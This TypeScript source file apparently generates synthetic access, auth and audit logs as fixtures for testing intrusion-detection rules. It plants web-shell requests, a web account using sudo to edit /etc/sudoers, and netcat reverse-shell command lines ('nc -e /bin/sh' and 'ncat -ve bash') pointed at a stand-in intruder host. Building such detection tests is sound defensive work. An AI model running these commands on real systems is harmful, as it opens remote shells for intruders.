/**
 * The web server's side of the story: access log, sshd and sudo in auth.log, and the kernel's audit log. Gives lines of
 * text with what the rules must make of them.
 */
import { type Random, randomFrom, seedOf } from '../random.ts'
import { at, type Log, type Mark, makeLog } from './log.ts'
import { INTRUDER } from './world.ts'

const HOST = 'web01'
const FROM = at('08:00:00')
const TO = at('10:40:00')
const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
]
const MONTHS = 'Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec'.split(' ')

function two(value: number): string {
  return String(value).padStart(2, '0')
}

function accessLine(
  time: number,
  client: string,
  request: string,
  status: number,
  bytes: number,
  agent: string,
): string {
  const date = new Date(time)
  const stamp = `${two(date.getUTCDate())}/${MONTHS[date.getUTCMonth()]}/${date.getUTCFullYear()}:${date.toISOString().slice(11, 19)} +0000`
  return `${client} - - [${stamp}] "${request} HTTP/1.1" ${status} ${bytes} "-" "${agent}"`
}

function visitors(log: Log<string>, random: Random, count: number): void {
  const pages = [
    '/',
    '/products',
    '/contact',
    '/search.php',
    '/cart.php',
    '/news/2026',
    '/static/app.js',
  ]
  const pictures = ['/uploads/logo.png', '/images/team.jpg', '/static/site.css', '/favicon.ico']
  for (let done = 0; done < count; done++) {
    const time = random.between(FROM, TO)
    const client = `198.51.100.${random.between(1, 250)}`
    const path = random.pick([...pages, ...pictures])
    const query = path.endsWith('.php')
      ? `?q=${random.pick(['lamp', 'desk', 'chair', 'shelf'])}&page=${random.below(9)}`
      : ''
    const status = random.below(20) === 0 ? 404 : 200
    const line = accessLine(
      time,
      client,
      `GET ${path}${query}`,
      status,
      random.between(180, 48_000),
      random.pick(BROWSERS),
    )
    log.add(time, line)
  }
}

/** The access log of the web server. */
export function accessLog(): Log<string> {
  const log = makeLog<string>()
  visitors(log, randomFrom(seedOf('access.log')), 640)
  const agent = 'Mozilla/5.0 (compatible; example-scan/1.0)'
  const attack = (clock: string, request: string, status: number, mark: Mark): void => {
    const line = accessLine(at(clock), INTRUDER, request, status, status === 200 ? 214 : 162, agent)
    log.add(at(clock), line, mark)
  }
  attack('08:12:01', 'GET /uploads/up.php?cmd=id', 404, {
    quiet: [
      ['web-shell-request', 'the server has no such file'],
      ['script-after-upload', 'a script was asked for, and nothing was sent before'],
    ],
  })
  attack('08:12:02', 'GET /media/cmd.jsp?exec=id', 403, {
    quiet: [['web-shell-request', 'the server refused it']],
  })
  attack('08:20:40', 'POST /upload.php', 200, { fires: ['script-after-upload'] })
  const fires = { fires: ['web-shell-request'] }
  attack('08:21:05', 'GET /uploads/img_0311.php?cmd=id', 200, fires)
  attack('08:21:30', 'GET /uploads/img_0311.php?cmd=uname%20-a', 200, fires)
  attack('08:24:12', 'POST /uploads/img_0311.PHP?exec=1', 200, fires)
  const shop = accessLine(
    at('08:30:30'),
    '198.51.100.23',
    'GET /search.php?cmd=list',
    200,
    911,
    BROWSERS[0] ?? '',
  )
  log.add(at('08:30:30'), shop, {
    quiet: [
      ['web-shell-request', 'the script stands in no folder for uploads'],
      ['script-after-upload', 'the script stands in no folder for uploads'],
    ],
  })
  return log
}

function syslogLine(time: number, program: string, message: string): string {
  const stamp = new Date(time).toISOString().replace('Z', '000+00:00')
  return `${stamp} ${HOST} ${program}: ${message}`
}

/** auth.log of the web server: sshd, sudo and cron. */
export function authLog(): Log<string> {
  const log = makeLog<string>()
  const random = randomFrom(seedOf('auth.log'))
  for (let done = 0; done < 150; done++) {
    const time = random.between(FROM, TO)
    const pid = random.between(2_000, 30_000)
    const port = random.between(30_000, 60_000)
    const kind = random.below(4)
    if (kind === 0) {
      const from = `198.51.100.${random.between(1, 250)} port ${port}`
      const message = `Failed password for invalid user ${random.pick(['test', 'oracle', 'ubuntu'])} from ${from} ssh2`
      log.add(time, syslogLine(time, `sshd[${pid}]`, message))
    } else if (kind === 1) {
      const message = `Accepted publickey for deploy from 10.20.7.112 port ${port} ssh2: ED25519 SHA256:${random.hex(32)}`
      log.add(time, syslogLine(time, `sshd[${pid}]`, message))
      const opened = 'pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)'
      log.add(time + 12, syslogLine(time + 12, `sshd[${pid}]`, opened))
    } else if (kind === 2) {
      const what = random.pick([
        '/usr/bin/systemctl reload nginx',
        '/usr/bin/tail -n 50 /var/log/syslog',
      ])
      const message = `  deploy : TTY=pts/0 ; PWD=/srv/www ; USER=root ; COMMAND=${what}`
      log.add(time, syslogLine(time, 'sudo', message))
    } else {
      const message = 'pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)'
      log.add(time, syslogLine(time, `CRON[${pid}]`, message))
    }
  }
  const web = (clock: string, message: string, mark: Mark): void => {
    log.add(at(clock), syslogLine(at(clock), 'sudo', `www-data : ${message}`), mark)
  }
  const fires = { fires: ['linux-sudo-by-web-account'] }
  web('08:33:10', 'TTY=unknown ; PWD=/srv/www/uploads ; USER=root ; COMMAND=/usr/bin/id', fires)
  web('08:33:48', 'TTY=unknown ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/vim /etc/sudoers', fires)
  web(
    '08:00:02',
    'TTY=unknown ; PWD=/ ; USER=root ; COMMAND=/usr/local/bin/renew-certificates --quiet',
    { quiet: [['linux-sudo-by-web-account', 'the renewal of certificates, filtered']] },
  )
  web(
    '08:33:02',
    'a password is required ; TTY=unknown ; PWD=/srv/www ; USER=backup ; COMMAND=/usr/bin/id',
    { quiet: [['linux-sudo-by-web-account', 'not as root, and refused']] },
  )
  return log
}

interface Exec {
  readonly time: number
  readonly exe: string
  readonly argv: readonly string[]
  readonly uid: number
  readonly mark?: Mark
}

/** The kernel writes text with blanks or quotes as hexadecimal digits. */
function auditText(text: string): string {
  return /^[!#-~]+$/.test(text) ? `"${text}"` : Buffer.from(text).toString('hex').toUpperCase()
}

/** The audit log: each started program is one entry of five lines with one serial number. */
export function auditLog(): Log<string> {
  const log = makeLog<string>()
  const random = randomFrom(seedOf('audit.log'))
  const execs: Exec[] = []
  const usual: readonly (readonly string[])[] = [
    ['/usr/bin/ls', '-la', '/srv/www'],
    ['/usr/bin/grep', '-c', 'processor', '/proc/cpuinfo'],
    ['/usr/bin/php8.3', '/srv/www/cron.php'],
    ['/usr/bin/find', '/var/lib/php/sessions', '-type', 'f', '-cmin', '+24'],
    ['/bin/sh', '-c', 'command -v debian-sa1 > /dev/null && debian-sa1 1 1'],
    ['/usr/bin/sleep', '5'],
  ]
  for (let done = 0; done < 55; done++) {
    const argv = random.pick(usual)
    const time = random.between(FROM, TO)
    execs.push({ time, exe: argv[0] ?? '', argv, uid: random.pick([0, 33, 1001]) })
  }
  const fires = { fires: ['linux-netcat-shell'] }
  execs.push(
    {
      time: at('08:28:03.120'),
      exe: '/usr/bin/nc.traditional',
      argv: ['nc', '-e', '/bin/sh', INTRUDER, '4444'],
      uid: 33,
      mark: fires,
    },
    {
      time: at('08:29:40.544'),
      exe: '/usr/bin/ncat',
      argv: ['ncat', INTRUDER, '443', '-ve', '/usr/bin/bash'],
      uid: 33,
      mark: fires,
    },
    {
      time: at('08:27:11.002'),
      exe: '/usr/bin/nc.traditional',
      argv: ['nc', '-z', '-w', '3', '10.20.0.12', '5432'],
      uid: 1001,
      mark: { quiet: [['linux-netcat-shell', 'only tests whether a port is open']] },
    },
  )
  execs.sort((a, b) => a.time - b.time)
  execs.forEach((exec, place) => {
    addExec(log, random, exec, 4_200 + place)
  })
  return log
}

function addExec(log: Log<string>, random: Random, exec: Exec, serial: number): void {
  const { time, exe, argv, uid } = exec
  const stamp = `msg=audit(${(time / 1000).toFixed(3)}:${serial}):`
  const pid = random.between(3_000, 30_000)
  const comm = (argv[0] ?? '').slice((argv[0] ?? '').lastIndexOf('/') + 1)
  const quoted = argv.map((word, place) => `a${place}=${auditText(word)}`).join(' ')
  const title = Buffer.from(argv.join('\0')).toString('hex').toUpperCase()
  const lines = [
    `type=SYSCALL ${stamp} arch=c000003e syscall=59 success=yes exit=0 a0=55${random.hex(10)} a1=55${random.hex(10)} a2=55${random.hex(10)} a3=8 items=2 ppid=${pid - 1} pid=${pid} auid=4294967295 uid=${uid} gid=${uid} euid=${uid} suid=${uid} fsuid=${uid} egid=${uid} sgid=${uid} fsgid=${uid} tty=(none) ses=4294967295 comm="${comm.slice(0, 15)}" exe="${exe}" subj=unconfined key="exec"`,
    `type=EXECVE ${stamp} argc=${argv.length} ${quoted}`,
    `type=CWD ${stamp} cwd="/srv/www"`,
    `type=PATH ${stamp} item=0 name="${exe}" inode=${random.between(100_000, 900_000)} dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0`,
    `type=PROCTITLE ${stamp} proctitle=${title}`,
  ]
  log.add(time, lines.join('\n'), exec.mark)
}
